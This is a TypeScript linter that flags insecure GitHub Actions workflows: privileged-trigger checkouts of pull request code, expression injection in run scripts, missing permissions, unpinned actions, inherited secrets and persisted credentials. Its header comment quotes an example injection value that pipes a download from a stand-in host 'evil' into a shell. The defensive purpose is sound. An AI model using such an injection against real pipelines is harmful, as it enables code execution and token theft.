/**
 * Security rules for GitHub Actions workflow files, the ones a reviewer of a deploy pipeline
 * asks about first. A workflow that breaks one can leak the repository token or the cloud role
 * to whoever opens a pull request, so every finding is an error:
 *
 * - `dangerous-trigger-checkout`: `pull_request_target` / `workflow_run` runs with the base
 *   repository's token and secrets; checking out the pull request's code there runs it with them.
 * - `untrusted-expression-in-run`: `${{ }}` is pasted into the script before the shell sees it,
 *   so a pull request title like `"; curl evil | sh; "` becomes code. Pass it through `env:`.
 * - `missing-permissions`: without `permissions:` the token gets the repository default, which
 *   is often write-all.
 * - `unpinned-action`: a tag or branch can be moved to other code; only a full commit SHA (or a
 *   local `./` action, or a `docker://` image by digest) is immutable.
 * - `missing-version-comment`: a pinned SHA without `# vX.Y.Z` cannot be reviewed or updated.
 * - `secrets-inherit`: hands every secret of the caller to the called workflow.
 * - `persist-credentials`: actions/checkout leaves the token in `.git/config` for every later
 *   step unless told not to; only a job that pushes with git needs it.
 *
 * The checker reads the YAML itself (with positions) rather than a normalised model, so every
 * finding names the file, line and column of the offending node.
 */
import { readFile } from 'node:fs/promises';
import {
  isMap,
  isScalar,
  isSeq,
  LineCounter,
  parseDocument,
  type Node,
  type Pair,
  type Scalar,
  type YAMLMap,
} from '../util/yaml.js';
import { expressions, normaliseExpression, untrustedReferences } from './expressions.js';

/** The rules, as stable codes. */
export const WorkflowRule = {
  InvalidWorkflow: 'invalid-workflow',
  DangerousTriggerCheckout: 'dangerous-trigger-checkout',
  UntrustedExpressionInRun: 'untrusted-expression-in-run',
  MissingPermissions: 'missing-permissions',
  UnpinnedAction: 'unpinned-action',
  MissingVersionComment: 'missing-version-comment',
  SecretsInherit: 'secrets-inherit',
  PersistCredentials: 'persist-credentials',
} as const;
export type WorkflowRule = (typeof WorkflowRule)[keyof typeof WorkflowRule];

/** One broken rule, located in the file. Lines and columns count from 1. */
export interface WorkflowFinding {
  rule: WorkflowRule;
  file: string;
  line: number;
  column: number;
  message: string;
}

/** Triggers that run with the base repository's token and secrets on behalf of a pull request. */
const PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run'] as const;

/** Expressions that name the pull request's head (its code) in a privileged workflow. */
const PR_HEAD_REFERENCE =
  /github\.(?:event\.pull_request\.head\.(?:sha|ref|repo)|head_ref|event\.workflow_run\.(?:head_sha|head_branch|head_repository|pull_requests)|event\.number|event\.pull_request\.number|event\.pull_request\.merge_commit_sha)/;

/** Expressions that name the pull request's head commit, branch or repository (not just its number). */
const PR_HEAD_CODE_REFERENCE =
  /github\.(?:event\.pull_request\.head\.(?:sha|ref|repo)|head_ref|event\.workflow_run\.(?:head_sha|head_branch|head_repository))/;

/** Shell commands that fetch or switch to pull request code whatever they are given. */
const PR_CHECKOUT_COMMAND = /\bgh\s+pr\s+checkout\b|refs\/pull\/|\bgit\s+fetch\b[^\n]*\bpull\//;

/** Git commands that fetch or switch code (dangerous when handed the pull request's head). */
const GIT_FETCH_OR_SWITCH = /\bgit\s+(?:fetch|checkout|switch|clone|pull|worktree)\b/;

const SHA_PIN = /^[^@\s]+@[0-9a-f]{40}$/;
const DOCKER_DIGEST = /^docker:\/\/[^@\s]+@sha256:[0-9a-f]{64}$/;
const VERSION_COMMENT = /#\s*\S*\d/;

/** Where findings go, and what every rule needs to know about the file being checked. */
interface CheckContext {
  /** The file's lines, to read the comment after a pinned SHA. */
  lines: string[];
  /** The privileged triggers the workflow runs on (`pull_request_target`, `workflow_run`). */
  privileged: string[];
  at: (node: Node | Pair | null | undefined) => { line: number; column: number };
  add: (rule: WorkflowRule, node: Node | Pair | null | undefined, message: string) => void;
}

/**
 * Checks one workflow file's text. `file` is only used in the findings. An unparsable file is
 * one `invalid-workflow` finding; the other rules need a mapping with `on` and `jobs`.
 */
export function checkWorkflowSecurity(text: string, file: string): WorkflowFinding[] {
  const lineCounter = new LineCounter();
  const doc = parseDocument(text, { lineCounter, uniqueKeys: true, prettyErrors: false });
  const findings: WorkflowFinding[] = [];
  const at = (node: Node | Pair | null | undefined): { line: number; column: number } => {
    const p = lineCounter.linePos(rangeStart(node));
    return { line: p.line, column: p.col };
  };
  const add = (rule: WorkflowRule, node: Node | Pair | null | undefined, message: string): void => {
    findings.push({ rule, file, ...at(node), message });
  };

  if (doc.errors.length > 0) {
    for (const e of doc.errors) {
      const p = lineCounter.linePos(e.pos[0]);
      findings.push({
        rule: WorkflowRule.InvalidWorkflow,
        file,
        line: p.line,
        column: p.col,
        message: `not valid YAML: ${e.message.replace(/\n.*$/s, '')}`,
      });
    }
    return findings;
  }
  const root = doc.contents;
  if (!isMap(root)) {
    add(WorkflowRule.InvalidWorkflow, root, 'a workflow must be a mapping with `on` and `jobs`');
    return findings;
  }
  const jobs = root.get('jobs', true);
  if (!isMap(jobs)) {
    add(WorkflowRule.InvalidWorkflow, root, 'the workflow has no `jobs` mapping');
    return findings;
  }

  const triggers = triggerNames(root.get('on', true));
  const ctx: CheckContext = {
    lines: text.split('\n'),
    privileged: PRIVILEGED_TRIGGERS.filter((t) => triggers.includes(t)),
    at,
    add,
  };
  const topPermissions = root.get('permissions', true) as Node | undefined;
  if (topPermissions !== undefined) checkWriteAll(topPermissions, 'the workflow', add);
  for (const jobPair of jobs.items) checkJob(jobPair, topPermissions !== undefined, ctx);
  return findings.sort(
    (a, b) => a.line - b.line || a.column - b.column || (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : 0),
  );
}

/** The job-level rules (permissions, secrets, a called workflow), then each step's. */
function checkJob(jobPair: Pair, workflowHasPermissions: boolean, ctx: CheckContext): void {
  const { add, privileged } = ctx;
  const jobId = scalarText(jobPair.key) ?? '?';
  const job = jobPair.value;
  if (!isMap(job)) return;
  const jobPermissions = job.get('permissions', true) as Node | undefined;
  if (jobPermissions !== undefined) checkWriteAll(jobPermissions, `job "${jobId}"`, add);
  else if (!workflowHasPermissions) {
    add(
      WorkflowRule.MissingPermissions,
      jobPair.key as Node,
      `job "${jobId}" has no permissions: and neither has the workflow: its token gets the repository default (often write-all); declare the least it needs, e.g. permissions: { contents: read }`,
    );
  }

  const secrets = job.get('secrets', true);
  if (isScalar(secrets) && secrets.value === 'inherit') {
    add(
      WorkflowRule.SecretsInherit,
      secrets,
      `job "${jobId}" passes secrets: inherit, handing every secret of this repository to the called workflow; pass the secrets it needs by name`,
    );
  }

  const jobUses = job.get('uses', true);
  if (isScalar(jobUses)) checkPinned(jobUses, `job "${jobId}"`, ctx);
  const calledWith = job.get('with', true);
  if (privileged.length > 0 && isScalar(jobUses) && isMap(calledWith)) {
    for (const p of calledWith.items) {
      const v = scalarText(p.value);
      if (v !== undefined && PR_HEAD_REFERENCE.test(normaliseExpression(v))) {
        add(
          WorkflowRule.DangerousTriggerCheckout,
          p.value as Node,
          `job "${jobId}" hands the pull request's head (${v.trim()}) to a called workflow in a ${privileged.join('/')} workflow, which runs with this repository's token and secrets`,
        );
      }
    }
  }

  const steps = job.get('steps', true);
  if (!isSeq(steps)) return;
  const stepMaps: YAMLMap[] = steps.items.filter(isMap);
  stepMaps.forEach((step, index) => {
    checkStep(step, `${jobId} / ${stepName(step, index)}`, stepMaps.slice(index + 1), ctx);
  });
}

/** The rules of one step: pinning, scripts that paste expressions, checkouts of pull request code. */
function checkStep(step: YAMLMap, where: string, laterSteps: YAMLMap[], ctx: CheckContext): void {
  const { add, privileged } = ctx;
  const uses = step.get('uses', true);
  const run = step.get('run', true);
  const withMap = step.get('with', true);
  if (isScalar(uses)) checkPinned(uses, where, ctx);
  if (isScalar(run) && typeof run.value === 'string') checkRunStep(step, run, run.value, where, ctx);

  const usesText = scalarText(uses) ?? '';
  if (/^actions\/github-script@/.test(usesText) && isMap(withMap)) {
    const script = withMap.get('script', true);
    if (isScalar(script) && typeof script.value === 'string')
      checkUntrusted(script, script.value, `${where}: script`, add);
  }

  if (/^actions\/checkout@/.test(usesText)) {
    const ref = isMap(withMap) ? withMap.get('ref', true) : undefined;
    const repository = isMap(withMap) ? withMap.get('repository', true) : undefined;
    for (const n of [ref, repository]) {
      const v = scalarText(n);
      if (privileged.length > 0 && v !== undefined && PR_HEAD_REFERENCE.test(normaliseExpression(v))) {
        add(
          WorkflowRule.DangerousTriggerCheckout,
          n,
          `${where} checks out the pull request's code (${v.trim()}) in a ${privileged.join('/')} workflow, which runs with this repository's token and secrets; use on: pull_request to build pull requests`,
        );
      }
    }
    checkPersistCredentials(step, isMap(withMap) ? withMap : undefined, laterSteps, where, add);
  }
}

/** A `run:` script: expressions pasted into it, and fetching pull request code in a privileged workflow. */
function checkRunStep(step: YAMLMap, run: Node, script: string, where: string, ctx: CheckContext): void {
  const { add, privileged } = ctx;
  checkUntrusted(run, script, `${where}: run`, add);
  const stepEnv = step.get('env', true);
  const envText = isMap(stepEnv) ? stepEnv.items.map((p) => scalarText(p.value) ?? '').join('\n') : '';
  const namesHead = [...expressions(script), ...expressions(envText)].some((e) => PR_HEAD_CODE_REFERENCE.test(e));
  if (privileged.length > 0 && (PR_CHECKOUT_COMMAND.test(script) || (namesHead && GIT_FETCH_OR_SWITCH.test(script)))) {
    add(
      WorkflowRule.DangerousTriggerCheckout,
      run,
      `${where} fetches or names the pull request's code in a ${privileged.join('/')} workflow, which runs with this repository's token and secrets; use on: pull_request for anything that runs the pull request's code`,
    );
  }
}

/** Reads and checks a workflow file; the findings name `displayPath` (default the path). */
export async function checkWorkflowFile(path: string, displayPath = path): Promise<WorkflowFinding[]> {
  return checkWorkflowSecurity(await readFile(path, 'utf8'), displayPath);
}

/** `file:line:column: message [rule]`, one finding per line, as editors and CI logs link them. */
export function formatWorkflowFindings(findings: readonly WorkflowFinding[]): string {
  return findings.map((f) => `${f.file}:${f.line}:${f.column}: ${f.message} [${f.rule}]`).join('\n');
}

function checkUntrusted(
  node: Node,
  script: string,
  where: string,
  add: (rule: WorkflowRule, node: Node, message: string) => void,
): void {
  const refs = [...new Set(expressions(script).flatMap(untrustedReferences))];
  if (refs.length === 0) return;
  add(
    WorkflowRule.UntrustedExpressionInRun,
    node,
    `${where} pastes ${refs.map((r) => `\${{ ${r} }}`).join(', ')} into the script, where text containing quotes or $(...) becomes code; pass it through env: and use "$VAR"`,
  );
}

function checkPinned(uses: Scalar, where: string, { lines, at, add }: CheckContext): void {
  const value = (scalarText(uses) ?? '').trim();
  if (value.startsWith('./')) return;
  if (value.startsWith('docker://')) {
    if (!DOCKER_DIGEST.test(value))
      add(
        WorkflowRule.UnpinnedAction,
        uses,
        `${where} uses the image "${value}" by tag; pin it by digest: docker://IMAGE@sha256:<64 hex>`,
      );
    return;
  }
  if (!SHA_PIN.test(value)) {
    add(
      WorkflowRule.UnpinnedAction,
      uses,
      `${where} uses "${value}", which is not pinned to a full 40-character commit SHA (a tag or branch can be moved to other code); write ${value.split('@')[0]}@<sha> # <version>`,
    );
    return;
  }
  const { line } = at(uses);
  const rest = (lines[line - 1] ?? '').slice((lines[line - 1] ?? '').indexOf(value) + value.length);
  if (!VERSION_COMMENT.test(rest)) {
    add(
      WorkflowRule.MissingVersionComment,
      uses,
      `${where} pins "${value}" without a version comment; add "# vX.Y.Z" after it so reviewers and Dependabot know what the SHA is`,
    );
  }
}

function checkPersistCredentials(
  step: YAMLMap,
  withMap: YAMLMap | undefined,
  laterSteps: YAMLMap[],
  where: string,
  add: (rule: WorkflowRule, node: Node | Pair, message: string) => void,
): void {
  const setting = withMap?.get('persist-credentials', true);
  const value = isScalar(setting) ? setting.value : undefined;
  if (value === false || value === 'false') return;
  const pushes = laterSteps.some((s) => {
    const run = s.get('run', true);
    return isScalar(run) && typeof run.value === 'string' && /\bgit\b[^\n]*\bpush\b/.test(run.value);
  });
  if (setting === undefined) {
    add(
      WorkflowRule.PersistCredentials,
      step.get('uses', true) as Node,
      `${where} leaves persist-credentials on (the default): the token stays in .git/config for every later step and action; set persist-credentials: false${pushes ? ' and give the push step its own credentials, or set it to true deliberately' : ''}`,
    );
  } else if (!pushes) {
    add(
      WorkflowRule.PersistCredentials,
      setting as Node,
      `${where} sets persist-credentials: ${String(value)} but no later step of the job pushes with git; set it to false`,
    );
  }
}

function checkWriteAll(
  permissions: Node,
  where: string,
  add: (rule: WorkflowRule, node: Node, message: string) => void,
): void {
  if (isScalar(permissions) && permissions.value === 'write-all') {
    add(
      WorkflowRule.MissingPermissions,
      permissions,
      `${where} grants permissions: write-all; declare the least it needs, e.g. permissions: { contents: read }`,
    );
  }
}

function triggerNames(on: unknown): string[] {
  if (isScalar(on)) return [String(on.value)];
  if (isSeq(on)) return on.items.map((i) => scalarText(i) ?? '').filter(Boolean);
  if (isMap(on)) return on.items.map((p) => scalarText(p.key) ?? '').filter(Boolean);
  return [];
}

function stepName(step: YAMLMap, index: number): string {
  return (
    scalarText(step.get('name', true)) ??
    scalarText(step.get('id', true)) ??
    scalarText(step.get('uses', true)) ??
    `step ${index + 1}`
  );
}

function scalarText(node: unknown): string | undefined {
  if (!isScalar(node)) return undefined;
  const v = node.value;
  return typeof v === 'string' || typeof v === 'number' || typeof v === 'boolean' || typeof v === 'bigint'
    ? String(v)
    : undefined;
}

function rangeStart(node: Node | Pair | null | undefined): number {
  if (!node) return 0;
  if ('range' in node && node.range) return node.range[0];
  if ('key' in node) return rangeStart(node.key as Node);
  return 0;
}
